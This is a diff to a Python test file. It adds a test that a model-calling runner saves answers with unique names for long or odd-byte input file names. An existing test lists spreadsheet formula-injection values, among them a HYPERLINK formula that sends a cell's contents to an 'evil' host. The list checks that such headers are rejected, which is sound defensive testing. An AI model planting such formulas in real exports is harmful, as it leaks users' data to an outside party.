@@ -109,6 +109,16 @@ def test_no_ending_of_an_answer_s_name_is_too_long_for_the_file(tmp_path):
     assert runner._save(row, Binary(b"x", "image/png", "x.gif")).suffix == ".gif"
 
 
+@pytest.mark.parametrize("name", [b"x" * 250, "é".encode() * 120 + b".png", b"\xc3" * 120 + b"\xe9.png"])
+def test_an_answer_for_an_input_of_any_name_is_kept(tmp_path, name):
+    (row, other) = rows_of([{"image": Path(os.fsdecode(name))}] * 2)
+    runner = Runner(Calls("http://model"), None, tmp_path, 1)
+    kept = [runner._save(one, Binary(b"x", "image/png", "x." + "p" * 19)) for one in (row, other)]
+    assert [path.read_bytes() for path in kept] == [b"x"] * 2
+    assert len(set(kept)) == 2
+    assert [os.fsencode(path.name)[:40] for path in kept] == [name[:40]] * 2
+
+
 @pytest.mark.parametrize("told", ['=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@x", "\t=1", "distance"])
 def test_a_header_that_a_table_would_calculate_is_left(told):
     assert _drift(Reply(200, httpx.Headers({"model-drift": told}), b"")) is None
